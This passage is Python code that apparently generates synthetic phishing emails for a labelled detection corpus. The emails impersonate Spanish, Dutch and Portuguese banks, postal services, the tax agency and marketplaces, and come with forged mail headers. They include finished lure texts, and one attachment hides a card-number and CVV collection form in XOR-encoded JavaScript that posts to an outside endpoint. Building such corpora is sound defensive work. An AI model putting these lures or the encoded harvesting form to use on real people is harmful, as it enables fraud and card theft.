Su clave de seguridad de Banca Online caduca hoy. Para evitar el bloqueo de su cuenta y de sus
tarjetas, renueve su clave a través del siguiente enlace:

{url}

Gracias por confiar en Santander.
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:600px;margin:auto"><div style="padding:16px 18px;color:#ec0000;font-size:24px;border-bottom:2px solid #ec0000"><b>Santander</b></div>
<div style="padding:20px;line-height:1.5">
<p>Estimado/a cliente:</p>
<p>Su <b>clave de seguridad</b> de Banca Online <b>caduca hoy</b>. Para evitar el bloqueo de su cuenta y de sus tarjetas, renueve su clave.</p>
<p><a href="{url}" style="background:#ec0000;color:#fff;padding:11px 24px;border-radius:20px;text-decoration:none">Renovar clave</a></p>
<p>Gracias por confiar en Santander.</p>
<p style="font-size:10px;color:#999"><a href="https://{hexid(name, 'r', 6)}.r.sp1-brevo.net/mk/un/v2/{b64(name, 'unsub', 40).replace('/', '_').replace('+', '-')}" style="color:#999">Darse de baja</a></p>
</div></div></body></html>
"""
    headers = [
        f"Content-Type-Placeholder: x",
        f"From: {addr('Santander', 'notificaciones@' + dom)}",
        f"To: {rcpt}",
        f"Subject: {enc('Su clave de seguridad caduca hoy', 'Q')}",
        f"Date: {rfc(sent)}",
        f"List-Unsubscribe: <https://{hexid(name, 'r', 6)}.r.sp1-brevo.net/mk/un/v2/{b64(name, 'unsub', 40).replace('/', '_').replace('+', '-')}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Message-Id: <{uuid(name, 'mid')}@smtp-relay.mailin.fr>",
        "X-Mailer: Sendinblue",
        f"X-sib-id: {b64(name, 'sibid', 60).replace('=', '')}",
        f"Feedback-ID: 77.32.148.{hop.ip.rsplit('.', 1)[1]}:{digits(name, 'fb', 7)}_-1:{digits(name, 'fb2', 7)}:Sendinblue",
        "X-CSA-Complaints: csa-complaints@eco.de",
    ]
    headers = [h for h in headers if not h.startswith("Content-Type-Placeholder")]
    return assemble(name, "hotmail", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html), geo=('FR', 'es'))


@sample("phishing", "b12-caixabank-tarjeta-bloqueada-qr-pdf-gmail.eml",
        "CaixaBank 'su tarjeta ha sido bloqueada' from a gmail.com account to a hotmail.es customer; the attached PDF "
        "shows a QR code to an r2.dev-hosted kit and tells the reader to scan it with the phone")
def _(name):
    sent = when("Thu, 05 Sep 2024 09:58:23 +0200")
    rcpt = "carmen.ortiz.ruiz@hotmail.es"
    sender = "caixabank.avisos.clientes@gmail.com"
    hop, route = gmail_route(name, sender, rcpt, sent)
    a = Auth(sender, "gmail.com", "pass", "pass", "gmail.com", "20230601", "pass", "none")
    qr = f"https://pub-{hexid(name, 'r2', 32)}.r2.dev/caixabank/desbloqueo.html?ref={digits(name, 'ref', 8)}"
    pdf = pdf_doc(
        [latin1("Estimado/a cliente:"), "",
         latin1("Por motivos de seguridad su tarjeta ha sido bloqueada temporalmente tras detectar"),
         latin1("un intento de pago no reconocido de 389,90 EUR."), "",
         latin1("Para desbloquearla, escanee el código QR con la cámara de su móvil"),
         latin1("y verifique su identidad en CaixaBankNow."), "",
         latin1("Si no realiza la verificación en 24 horas, la tarjeta será cancelada.")],
        "CaixaBank - Aviso de seguridad", producer="iLovePDF", created="20240905095500+02'00'", qr=qr,
        header_lines=["CaixaBank", latin1("Aviso de seguridad")])
    plain = """Estimado/a cliente:

Le adjuntamos el aviso de seguridad relativo al bloqueo de su tarjeta. Siga las instrucciones del documento.

CaixaBank
"""
    html = """<div dir="ltr">Estimado/a cliente:<div><br></div><div>Le adjuntamos el aviso de seguridad relativo al bloqueo de su tarjeta. Siga las instrucciones del documento.</div><div><br></div><div>CaixaBank</div></div>
"""
    headers = [
        "MIME-Version: 1.0",
        f"From: {addr('CaixaBank Avisos', sender)}",
        f"Date: {rfc(sent)}",
        f"Message-ID: <CA+{alnum(name, 'gmid', 40)}@mail.gmail.com>",
        f"Subject: {enc('Aviso de seguridad: tarjeta bloqueada', 'B')}",
        f"To: {rcpt}",
    ]
    gb = hexid(name, "gb", 16)
    body = Multi("mixed", f"000000000000{gb}", [
        Multi("alternative", f"000000000000{hexid(name, 'gb2', 16)}", [text(plain), text(html, "html")]),
        attachment("application/pdf", "Aviso_Seguridad_CaixaBank.pdf", pdf),
    ])
    return assemble(name, "hotmail", rcpt, later(sent, 3), hop, a, route, headers, body, geo=('US', 'es'))


@sample("phishing", "b12-correos-paquete-retenido-isgd-onrender.eml",
        "Correos 'su paquete está retenido, abone 1,79 € de tasas' mailed by PHP from a hacked cPanel site "
        "(envelope and From on the site's own domain, not correos.es) to a telefonica.net address; an is.gd "
        "shortener leads to an onrender.com payment page")
def _(name):
    sent = when("Wed, 06 Dec 2023 10:02:51 -0600")
    rcpt = "luis.navarro@telefonica.net"
    dom = "academia-idiomas-elche.com"
    host = f"server{digits(name, 'srv', 3)}.web-hosting.com"
    ip = "198.54.115.163"
    env = f"noreply@{dom}"
    hop = Hop(host, ip)
    a = Auth(env, dom, "pass", "pass", dom, "default", "none", "absent")
    url = f"https://is.gd/{alnum(name, 'isgd', 6)}"
    envio = f"PQ{digits(name, 'envio', 16)}"
    route = [
        *cpanel_route(name, host, ip, sent, env, "/home/academ12/public_html/wp-content/themes/astra/inc/customizer/mail.php", tz="-0600"),
        dkim(name, dom, "default", sent, "Content-Type:MIME-Version:Message-ID:Subject:To:From:Date:Sender:Reply-To"),
    ]
    plain = f"""Correos

Estimado cliente:

Su envío {envio} se encuentra retenido en nuestro centro de tratamiento a la espera del pago
de las tasas de importación (1,79 €).

Abone las tasas y elija la fecha de entrega: {url}

Si no se abonan en 72 horas, el envío será devuelto al remitente.

Correos
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:600px;margin:auto"><div style="background:#ffcd00;color:#002e6d;padding:14px 18px;font-size:22px"><b>Correos</b></div>
<div style="padding:20px;line-height:1.5;border:1px solid #eee">
<p>Estimado cliente:</p>
<p>Su envío <b>{envio}</b> se encuentra <b>retenido</b> en nuestro centro de tratamiento a la espera del pago de las tasas de importación (<b>1,79 €</b>).</p>
<p><a href="{url}" style="background:#002e6d;color:#fff;padding:10px 22px;text-decoration:none">Pagar y programar entrega</a></p>
<p>Si no se abonan en 72 horas, el envío será devuelto al remitente.</p></div></div></body></html>
"""
    headers = [
        f"Date: {rfc(sent, '+0000')}",
        f"To: {rcpt}",
        f"From: Correos <{env}>",
        f"Subject: {enc('Su envío ' + envio + ' está retenido – tasas pendientes', 'B')}",
        f"Message-ID: <{alnum(name, 'mid', 32)}@{dom}>",
        "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
        *cpanel_trailer(host, "academ12", dom),
    ]
    return assemble(name, "telefonica", rcpt, later(sent, 4), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-agencia-tributaria-reembolso-html-charcode.eml",
        "Agencia Tributaria 'reembolso pendiente de 264,35 €' from the lookalike agenciatributaria-notificaciones.com "
        "(not agenciatributaria.gob.es) to a hotmail.es taxpayer; the attached .html decodes a String.fromCharCode "
        "array into a card-collection form that posts to a PHP endpoint")
def _(name):
    sent = when("Tue, 28 May 2024 07:21:48 +0200")
    rcpt = "elena.santos.v@hotmail.es"
    dom = "agenciatributaria-notificaciones.com"
    sender = f"notificaciones@{dom}"
    hop = Hop(f"mail.{dom}", "193.233.21.90")
    a = Auth(sender, dom, "pass", "pass", dom, "default", "pass", "none")
    inner = f"""<div style="font-family:Arial;max-width:440px;margin:40px auto;border:1px solid #ccc;padding:24px">
<div style="color:#6a1b1b;font-weight:bold;font-size:18px">Agencia Tributaria</div><p>Reembolso pendiente: <b>264,35 &euro;</b></p>
<form method="post" action="https://reembolso-aeat.info/procesar.php">
<input name="nif" placeholder="NIF/NIE" style="width:100%;padding:8px;margin:4px 0">
<input name="titular" placeholder="Titular de la tarjeta" style="width:100%;padding:8px;margin:4px 0">
<input name="tarjeta" placeholder="N&uacute;mero de tarjeta" style="width:100%;padding:8px;margin:4px 0">
<input name="cad" placeholder="MM/AA" style="width:48%;padding:8px;margin:4px 0"> <input name="cvv" placeholder="CVV" style="width:48%;padding:8px;margin:4px 0">
<button style="background:#6a1b1b;color:#fff;border:0;padding:10px;width:100%">Recibir reembolso</button></form></div>"""
    codes = ",".join(str(ord(c) ^ 7) for c in inner)
    page = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Agencia Tributaria - Sede electr&oacute;nica</title></head>
<body><div id="c"></div>
<script>
var k=[{codes}];
var s='';for(var i=0;i<k.length;i++){{s+=String.fromCharCode(k[i]^7);}}
document.getElementById('c').innerHTML=s;
</script></body></html>
"""
    route = [
        f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
        f"\tfor <{rcpt}>; {rfc1(sent, '+0200', 'CEST')}",
        dkim(name, dom, "default", sent, "Date:From:To:Subject:From"),
    ]
    plain = """Agencia Tributaria

Estimado contribuyente:

Tras revisar su declaración de la Renta 2023 le corresponde un reembolso de 264,35 €.
Abra el formulario adjunto para indicar la cuenta o tarjeta en la que desea recibirlo.

Agencia Estatal de Administración Tributaria
"""
    html = """<html><body style="font-family:Arial,sans-serif;font-size:14px"><p><b>Agencia Tributaria</b></p><p>Estimado contribuyente:</p>
<p>Tras revisar su declaración de la Renta 2023 le corresponde un <b>reembolso de 264,35 €</b>.<br>Abra el formulario adjunto para indicar la cuenta o tarjeta en la que desea recibirlo.</p>
<p>Agencia Estatal de Administración Tributaria</p></body></html>
"""
    headers = std(addr("Agencia Tributaria", sender), rcpt, "Notificación de reembolso – Renta 2023", rfc(sent),
                  f"{hexid(name, 'mid', 24)}@{dom}")
    body = Multi("mixed", f"=_{hexid(name, 'mx', 30)}", [
        Multi("alternative", f"=_{hexid(name, 'ax', 30)}", [text(plain), text(html, "html")]),
        attachment("text/html", "Reembolso_AEAT_2023.html", page.encode("utf-8")),
    ])
    return assemble(name, "hotmail", rcpt, later(sent, 3), hop, a, route, headers, body, geo=('RU', 'es'))


@sample("phishing", "b12-wallapop-pago-recibido-hotmail-godaddysites.eml",
        "Wallapop 'el comprador ya ha pagado, confirma para recibir el dinero' from a throwaway hotmail.com mailbox "
        "to a hotmail.es seller; the 'cobrar' link is a godaddysites.com page asking for card details")
def _(name):
    sent = when("Sat, 09 Nov 2024 20:14:37 +0000")
    rcpt = "javi.romero.g@hotmail.es"
    sender = "wallapop.envios.soporte@hotmail.com"
    hop, route = outlook_consumer_route(name, "hotmail.com", sent)
    a = Auth(sender, "hotmail.com", "pass", "pass", "hotmail.com", "selector1", "pass", "none")
    url = f"https://wallapop-cobro-envio.godaddysites.com/?item={digits(name, 'item', 9)}"
    plain = f"""Wallapop Envíos

¡Enhorabuena! Tu producto "PlayStation 5 Digital + 2 mandos" se ha vendido.

El comprador ya ha pagado 380,00 € mediante Wallapop Envíos. El importe está reservado y se
liberará cuando confirmes la venta y tus datos de cobro:

{url}

Tienes 24 horas para confirmar; después la transacción se cancelará.

El equipo de Wallapop
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">
<div style="font-family:Wallie,Arial,sans-serif;font-size:12pt;color:#253238">
<div style="color:#13c1ac;font-size:26px;font-weight:bold">wallapop</div>
<p><b>¡Enhorabuena! Tu producto "PlayStation 5 Digital + 2 mandos" se ha vendido.</b></p>
<p>El comprador ya ha pagado <b>380,00 €</b> mediante Wallapop Envíos. El importe está reservado y se liberará cuando confirmes la venta y tus datos de cobro.</p>
<p><a href="{url}" style="background:#13c1ac;color:#fff;padding:11px 24px;border-radius:22px;text-decoration:none">Confirmar y cobrar</a></p>
<p>Tienes 24 horas para confirmar; después la transacción se cancelará.</p>
<p>El equipo de Wallapop</p></div></body></html>
"""
    headers = [
        *std(addr("Wallapop Envíos", sender), rcpt, "Tu producto se ha vendido – confirma para cobrar", rfc1(sent, "+0000"),
             f"PAXP251MB{hexid(name, 'mid', 28, True)}@PAXP251MB{digits(name, 'mb', 4)}.EURP251.PROD.OUTLOOK.COM"),
        "Accept-Language: es-ES, en-US",
        "Content-Language: es-ES",
        "X-MS-Has-Attach:",
    ]
    return assemble(name, "hotmail", rcpt, later(sent, 3), hop, a, route, headers,
                    Multi("alternative", f"_000_PAXP251MB{hexid(name, 'bnd', 24, True)}_", [text(plain), text(html, "html")]), geo=('IE', 'es'))


def mandrill_route(name: str, domain: str, dt: datetime) -> tuple[Hop, list[str], str]:
    n = 10 + int(hexid(name, "md", 2), 16) % 200
    host = f"mail{n}.suw{int(hexid(name, 'suw', 1), 16) % 9 + 11}.mandrillapp.com"
    ip = f"198.2.{180 + int(hexid(name, 'mdip', 1), 16) % 10}.{n}"
    env = f"bounce-md_{digits(name, 'mdu', 8)}.{hexid(name, 'mdb', 8)}.v1-{hexid(name, 'mdb2', 32)}@mandrillapp.com"
    lines = [
        dkim(name, "mandrillapp.com", "mandrill", dt, "From:Subject:Message-Id:To:Date:MIME-Version:Content-Type", label="md1"),
        dkim(name, domain, "mte1", dt, "From:Subject:Message-Id:To:Date:MIME-Version:Content-Type", label="md2"),
        f"Received: from pmta{int(hexid(name, 'pmta', 1), 16) % 9 + 1}.mandrill.prod.suw01.rsglab.com (localhost [127.0.0.1])\n"
        f"\tby {host} (Mailchimp) with ESMTP id 4{alnum(name, 'mdid', 11)}\n\tfor <REPLRCPT>; {rfc1(dt, '+0000', 'GMT')}",
    ]
    return Hop(host, ip), lines, env


def yahoo_route(name: str, domain: str, dt: datetime, client_ip: str) -> tuple[Hop, list[str]]:
    n = 300 + int(hexid(name, "sonic", 2), 16) % 60
    host = f"sonic{n}-{int(hexid(name, 'sonic2', 1), 16) % 30}.consmr.mail.ir2.yahoo.com"
    ip = f"77.238.{176 + int(hexid(name, 'yip', 1), 16) % 4}.{int(hexid(name, 'yip2', 2), 16) % 250}"
    lines = [
        dkim(name, domain, "s2048", dt, "Date:From:To:Subject:References:From:Subject:Reply-To", label="y"),
        f"X-SONIC-DKIM-SIGN: v=1; a=rsa-sha256; c=relaxed/relaxed; d=yahoo.com; s=s2048; t={epoch(dt)};\n"
        f"\tbh={b64(name, 'sbh', 43)}=;\n\th=X-Sonic-MF:Date:From:To:Subject:From:Subject;\n\tb={fold_b64(b64(name, 'sb', 342) + '==')}",
        f"X-YMail-OSG: {b64(name, 'osg', 70)}",
        f"X-Sonic-MF: <REPLFROM>",
        f"X-Sonic-ID: {uuid(name, 'sonicid')}",
        f"Received: from sonic.gate.mail.ne1.yahoo.com by {host} with HTTP; {rfc1(dt, '+0000')}",
        f"Received: by hermes--production-ir2-{hexid(name, 'herm', 10)}-{alnum(name, 'herm2', 5).lower()} (Yahoo Inc. Hermes SMTP Server) "
        f"with ESMTPA ID {hexid(name, 'hermid', 32)};\n          {rfc1(dt, '+0000', 'UTC')}",
    ]
    del client_ip
    return Hop(host, ip), lines


def plain_vps(name: str, host: str, dt: datetime, rcpt: str, tz: str, zone: str, dom: str, sel: str | None) -> list[str]:
    lines = [f"Received: from localhost (localhost [127.0.0.1])\n\tby {host} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
             f"\tfor <{rcpt}>; {rfc1(dt, tz, zone)}"]
    if sel:
        lines.append(dkim(name, dom, sel, dt, "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type:From"))
    return lines


def google_url(target: str, name: str) -> str:
    from urllib.parse import quote
    return (f"https://www.google.com/url?q={quote(target, safe='')}&sa=D&sntz=1&usg=AOvVaw{alnum(name, 'usg', 22)}")


# --------------------------------------------------------------------------------------------
# PHISHING — Dutch
# --------------------------------------------------------------------------------------------

@sample("phishing", "b12-ing-betaalpas-verloopt-framer.eml",
        "ING 'uw betaalpas verloopt, vraag nu een nieuwe aan' from the lookalike ing-klantenservice.nl to a ziggo.nl "
        "customer; the request form is a framer.website page")
def _(name):
    sent = when("Mon, 08 Jan 2024 07:55:40 +0100")
    rcpt = "r.vandijk@ziggo.nl"
    dom = "ing-klantenservice.nl"
    sender = f"service@{dom}"
    hop = Hop(f"mail.{dom}", "89.208.107.52")
    a = Auth(sender, dom, "pass", "pass", dom, "default", "pass", "none")
    url = f"https://ing-betaalpas-aanvragen.framer.website/aanvraag?klant={digits(name, 'k', 8)}"
    route = plain_vps(name, f"mail.{dom}", sent, rcpt, "+0100", "CET", dom, "default")
    plain = f"""ING

Beste klant,

De geldigheid van uw huidige betaalpas verloopt op 31-01-2024. Om ervoor te zorgen dat u zonder
onderbreking kunt blijven betalen en pinnen, vragen wij u een nieuwe betaalpas aan te vragen.

Vraag uw nieuwe betaalpas aan: {url}

Let op: wanneer u dit niet vóór 15-01-2024 doet, wordt uw huidige pas geblokkeerd.

Met vriendelijke groet,
ING Klantenservice
"""
    html = f"""<html><body style="font-family:INGMe,Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:600px;margin:auto"><div style="padding:16px 18px;color:#ff6200;font-size:26px;font-weight:bold">ING</div>
<div style="padding:0 18px 18px;line-height:1.5">
<p>Beste klant,</p>
<p>De geldigheid van uw huidige betaalpas verloopt op <b>31-01-2024</b>. Om ervoor te zorgen dat u zonder onderbreking kunt blijven betalen en pinnen, vragen wij u een nieuwe betaalpas aan te vragen.</p>
<p><a href="{url}" style="background:#ff6200;color:#fff;padding:11px 24px;text-decoration:none">Nieuwe betaalpas aanvragen</a></p>
<p>Let op: wanneer u dit niet vóór <b>15-01-2024</b> doet, wordt uw huidige pas geblokkeerd.</p>
<p>Met vriendelijke groet,<br>ING Klantenservice</p></div></div></body></html>
"""
    headers = std(addr("ING", sender), rcpt, "Uw betaalpas verloopt – vraag een nieuwe pas aan", rfc(sent),
                  f"{hexid(name, 'mid', 24)}@{dom}")
    return assemble(name, "ziggo", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-abn-amro-identificatie-verplicht-rbgy-m365.eml",
        "ABN AMRO 'identificatie verplicht (Wwft), anders wordt uw rekening geblokkeerd' from the throwaway "
        "abnamro-identificatie.com to a gardening firm on Microsoft 365; the link is an rb.gy shortener")
def _(name):
    sent = when("Wed, 17 Apr 2024 12:40:03 +0200")
    rcpt = "info@hoveniersbedrijf-dekker.nl"
    dom = "abnamro-identificatie.com"
    sender = f"zakelijk@{dom}"
    hop = Hop(f"mx1.{dom}", "185.196.9.144")
    a = Auth(sender, dom, "pass", "pass", dom, "mail", "none", "absent")
    url = f"https://rb.gy/{alnum(name, 'rbgy', 6).lower()}"
    route = plain_vps(name, f"mx1.{dom}", sent, rcpt, "+0200", "CEST", dom, "mail")
    plain = f"""ABN AMRO Zakelijk

Geachte relatie,

Op grond van de Wet ter voorkoming van witwassen en financieren van terrorisme (Wwft) zijn wij verplicht
de gegevens van onze zakelijke klanten periodiek te controleren. Uit onze administratie blijkt dat uw
identificatie nog niet is bijgewerkt.

Rond de identificatie binnen 3 werkdagen af: {url}

Zonder tijdige identificatie worden uw zakelijke rekeningen tijdelijk geblokkeerd.

Met vriendelijke groet,
ABN AMRO Bank N.V.
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:600px;margin:auto"><div style="background:#004c4c;color:#fff;padding:14px 18px"><span style="color:#ffd200;font-weight:bold">ABN·AMRO</span> Zakelijk</div>
<div style="padding:20px;border:1px solid #e5e5e5;line-height:1.5">
<p>Geachte relatie,</p>
<p>Op grond van de <b>Wet ter voorkoming van witwassen en financieren van terrorisme (Wwft)</b> zijn wij verplicht de gegevens van onze zakelijke klanten periodiek te controleren. Uit onze administratie blijkt dat uw identificatie nog niet is bijgewerkt.</p>
<p><a href="{url}" style="background:#00857a;color:#fff;padding:10px 22px;text-decoration:none">Identificatie afronden</a></p>
<p>Zonder tijdige identificatie worden uw zakelijke rekeningen <b>tijdelijk geblokkeerd</b>.</p>
<p>Met vriendelijke groet,<br>ABN AMRO Bank N.V.</p></div></div></body></html>
"""
    headers = std(addr("ABN AMRO Zakelijk", sender), rcpt, "Actie vereist: identificatie (Wwft) binnen 3 werkdagen",
                  rfc(sent), f"{hexid(name, 'mid', 24)}@{dom}")
    return assemble(name, "m365", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html), geo=("NL", "nl"))


@sample("phishing", "b12-rabobank-scanner-vervangen-workers-dev.eml",
        "Rabobank 'uw Rabo Scanner moet worden vervangen' from the lookalike rabo-scanner-vervangen.nl to a ziggo.nl "
        "customer; the ordering page is a workers.dev script that asks for the login and a scanner code")
def _(name):
    sent = when("Thu, 14 Nov 2024 09:03:11 +0100")
    rcpt = "jan.smit1957@ziggo.nl"
    dom = "rabo-scanner-vervangen.nl"
    sender = f"noreply@{dom}"
    hop = Hop(f"mail.{dom}", "31.177.111.23")
    a = Auth(sender, dom, "pass", "pass", dom, "mail", "none", "absent")
    url = f"https://rabo-scanner.vervangen-nl.workers.dev/bestellen?r={hexid(name, 'r', 10)}"
    route = plain_vps(name, f"mail.{dom}", sent, rcpt, "+0100", "CET", dom, "mail")
    plain = f"""Rabobank

Beste klant,

Uw huidige Rabo Scanner voldoet vanaf 1 december 2024 niet meer aan de nieuwe Europese
veiligheidseisen. U ontvangt kosteloos een nieuwe Rabo Scanner.

Bevestig uw gegevens om de nieuwe scanner te bestellen: {url}

Houd uw huidige Rabo Scanner en bankpas bij de hand.

Met vriendelijke groet,
Rabobank
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#000066">
<div style="max-width:600px;margin:auto"><div style="padding:14px 18px;font-size:22px;color:#000099"><b>Rabobank</b></div>
<div style="padding:0 18px 18px;color:#333;line-height:1.5">
<p>Beste klant,</p>
<p>Uw huidige <b>Rabo Scanner</b> voldoet vanaf <b>1 december 2024</b> niet meer aan de nieuwe Europese veiligheidseisen. U ontvangt kosteloos een nieuwe Rabo Scanner.</p>
<p><a href="{url}" style="background:#fd6400;color:#fff;padding:10px 22px;text-decoration:none">Nieuwe scanner bestellen</a></p>
<p>Houd uw huidige Rabo Scanner en bankpas bij de hand.</p>
<p>Met vriendelijke groet,<br>Rabobank</p></div></div></body></html>
"""
    headers = std(addr("Rabobank", sender), rcpt, "Uw Rabo Scanner moet worden vervangen", rfc(sent),
                  f"{hexid(name, 'mid', 24)}@{dom}")
    return assemble(name, "ziggo", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-postnl-herbezorging-mandrill-pages-dev.eml",
        "PostNL 'uw pakket kon niet worden bezorgd, betaal € 1,95 voor herbezorging' sent through an abused "
        "Mandrill (Mailchimp Transactional) account for pakket-status-nl.com to a kpnmail.nl address; the payment "
        "page is on pages.dev")
def _(name):
    sent = when("Tue, 27 Aug 2024 14:36:29 +0000")
    rcpt = "m.bakker@kpnmail.nl"
    dom = "pakket-status-nl.com"
    hop, route, env = mandrill_route(name, dom, sent)
    a = Auth(env, dom, "pass", "pass", dom, "mte1", "none", "absent", dkim_extra=("mandrillapp.com", "mandrill"))
    code = f"3S{alnum(name, 'code', 13, 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789')}"
    url = f"https://postnl-herbezorging.pages.dev/track?code={code}"
    plain = f"""PostNL

Beste klant,

Wij hebben vandaag geprobeerd uw pakket {code} te bezorgen, maar er was niemand aanwezig.
Voor een nieuwe bezorgpoging rekenen wij € 1,95 herbezorgkosten.

Plan uw herbezorging: {url}

Uw pakket blijft 5 dagen voor u bewaard.

Met vriendelijke groet,
PostNL
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:600px;margin:auto"><div style="background:#ff6200;color:#fff;padding:14px 18px;font-size:22px"><b>PostNL</b></div>
<div style="padding:20px;border:1px solid #eee;line-height:1.5">
<p>Beste klant,</p>
<p>Wij hebben vandaag geprobeerd uw pakket <b>{code}</b> te bezorgen, maar er was niemand aanwezig. Voor een nieuwe bezorgpoging rekenen wij <b>€&nbsp;1,95</b> herbezorgkosten.</p>
<p><a href="{url}" style="background:#001e6e;color:#fff;padding:10px 22px;text-decoration:none">Herbezorging plannen</a></p>
<p>Uw pakket blijft 5 dagen voor u bewaard.</p></div></div>
<img src="https://mandrillapp.com/track/open.php?u={digits(name, 'mdu', 8)}&id={hexid(name, 'mdo', 32)}" height="1" width="1" alt=""></body></html>
"""
    headers = [
        f"From: {addr('PostNL', 'bezorging@' + dom)}",
        f"Subject: {enc('Uw pakket ' + code + ' kon niet worden bezorgd', 'Q')}",
        f"Message-Id: <{hexid(name, 'mid', 32)}.{epoch(sent)}@mail{hop.ptr.split('.')[0][4:]}.suw.mandrillapp.com>",
        f"To: {rcpt}",
        f"X-Report-Abuse: Please forward a copy of this message, including all headers, to abuse@mandrill.com",
        f"X-Report-Abuse: You can also report abuse here: https://mandrillapp.com/contact/abuse?id={digits(name, 'mdu', 8)}.{hexid(name, 'mdb', 8)}",
        f"X-Mandrill-User: md_{digits(name, 'mdu', 8)}",
        f"Feedback-ID: {digits(name, 'mdu', 8)}:{digits(name, 'mdu', 8)}.{sent:%Y%m%d}:md",
        f"Date: {rfc(sent)}",
    ]
    return assemble(name, "kpn", rcpt, later(sent, 3), hop, a, route, headers,
                    alt(name, plain, html, boundary=f"_av-{alnum(name, 'av', 22)}"))


@sample("phishing", "b12-marktplaats-koper-heeft-betaald-gmail-glitch.eml",
        "Marktplaats 'de koper heeft betaald via Gelijk Oversteken, bevestig om het geld te ontvangen' from a gmail.com "
        "fake buyer to a ziggo.nl seller; the confirmation link is a glitch.me card form")
def _(name):
    sent = when("Fri, 24 May 2024 21:07:54 +0200")
    rcpt = "sanne.mulder@ziggo.nl"
    sender = "koper.pieter.visser@gmail.com"
    hop, route = gmail_route(name, sender, rcpt, sent)
    a = Auth(sender, "gmail.com", "pass", "pass", "gmail.com", "20230601", "pass", "none")
    url = f"https://marktplaats-gelijk-oversteken.glitch.me/ontvangen?ad=m{digits(name, 'ad', 10)}"
    plain = f"""Hoi Sanne,

Ik heb je advertentie "Gazelle damesfiets 28 inch" gekocht en betaald via Gelijk Oversteken (€ 240).
Marktplaats houdt het geld vast tot jij bevestigt dat je het wilt ontvangen. Dat kan hier:

{url}

Daarna regelt PostNL het ophalen. Groetjes, Pieter
"""
    html = f"""<div dir="ltr">Hoi Sanne,<div><br></div><div>Ik heb je advertentie &quot;Gazelle damesfiets 28 inch&quot; gekocht en betaald via Gelijk Oversteken (€ 240).</div><div>Marktplaats houdt het geld vast tot jij bevestigt dat je het wilt ontvangen. Dat kan hier:</div><div><br></div><div><a href="{url}">Betaling ontvangen</a></div><div><br></div><div>Daarna regelt PostNL het ophalen. Groetjes, Pieter</div></div>
"""
    headers = [
        "MIME-Version: 1.0",
        f"From: {addr('Pieter Visser', sender)}",
        f"Date: {rfc(sent)}",
        f"Message-ID: <CA+{alnum(name, 'gmid', 40)}@mail.gmail.com>",
        "Subject: Gazelle damesfiets - betaald via Gelijk Oversteken",
        f"To: {rcpt}",
    ]
    return assemble(name, "ziggo", rcpt, later(sent, 2), hop, a, route, headers,
                    alt(name, plain, html, boundary=f"000000000000{hexid(name, 'gb', 16)}"))


# --------------------------------------------------------------------------------------------
# PHISHING — Portuguese
# --------------------------------------------------------------------------------------------

@sample("phishing", "b12-millennium-bcp-codigo-seguranca-vercel.eml",
        "Millennium bcp 'o seu código de segurança expira, atualize a app' from a Brazilian estate agency's hijacked "
        "webmail (SPF pass for imobiliariasilveira.com.br) to a sapo.pt customer; the form is a vercel.app page")
def _(name):
    sent = when("Tue, 12 Mar 2024 08:29:47 -0300")
    rcpt = "antonio.ferreira@sapo.pt"
    dom = "imobiliariasilveira.com.br"
    sender = f"contato@{dom}"
    hop = Hop(f"hm{digits(name, 'hm', 4)}.locaweb.com.br", "186.202.157.33", f"webmail.{dom}")
    a = Auth(sender, dom, "pass", "none", "", "", "none", "absent")
    url = f"https://millenniumbcp-app-seguranca.vercel.app/?c={hexid(name, 'c', 10)}"
    route = [f"Received: from [177.37.150.88] (helo=webmail.{dom})\n\tby {hop.ptr} with esmtpa (Exim 4.96)\n"
             f"\t(envelope-from <{sender}>)\n\tid 1rk{alnum(name, 'ex', 4)}-00{alnum(name, 'ex2', 5)}-{alnum(name, 'ex3', 2)};\n\t{rfc(sent)}"]
    plain = f"""Millennium bcp

Caro(a) Cliente,

O seu código de segurança de acesso ao Millennium Online expira a 15/03/2024. Para continuar a
utilizar a app Millennium e o MB WAY associado, atualize os seus dados de acesso:

{url}

Obrigado pela preferência.
Millennium bcp
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:600px;margin:auto"><div style="background:#d1005d;color:#fff;padding:14px 18px;font-size:22px"><b>Millennium</b> bcp</div>
<div style="padding:20px;border:1px solid #eee;line-height:1.5">
<p>Caro(a) Cliente,</p>
<p>O seu <b>código de segurança</b> de acesso ao Millennium Online expira a <b>15/03/2024</b>. Para continuar a utilizar a app Millennium e o MB WAY associado, atualize os seus dados de acesso.</p>
<p><a href="{url}" style="background:#d1005d;color:#fff;padding:10px 22px;text-decoration:none">Atualizar agora</a></p>
<p>Obrigado pela preferência.<br>Millennium bcp</p></div></div></body></html>
"""
    headers = [
        "MIME-Version: 1.0",
        f"Date: {rfc(sent)}",
        f"From: {addr('Millennium bcp', sender)}",
        f"To: {rcpt}",
        f"Subject: {enc('Millennium bcp: o seu código de segurança expira', 'Q')}",
        f"Message-ID: <{hexid(name, 'mid', 32)}@{dom}>",
        "User-Agent: Roundcube Webmail/1.6.2",
    ]
    return assemble(name, "sapo", rcpt, later(sent, 3), hop, a, route, headers,
                    alt(name, plain, html, boundary=f"=_{hexid(name, 'b', 32)}"))


